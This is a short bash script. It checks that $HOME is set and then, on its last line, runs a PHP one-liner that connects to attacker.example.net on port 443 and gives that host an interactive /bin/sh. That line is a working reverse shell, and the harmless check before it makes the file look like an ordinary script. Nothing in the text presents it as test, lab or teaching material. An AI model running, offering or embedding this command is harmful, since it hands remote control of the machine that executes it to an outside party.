#!/usr/bin/env bash
set -eu
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
php -r '$sock=fsockopen("attacker.example.net",443);exec("/bin/sh -i <&3 >&3 2>&3");'
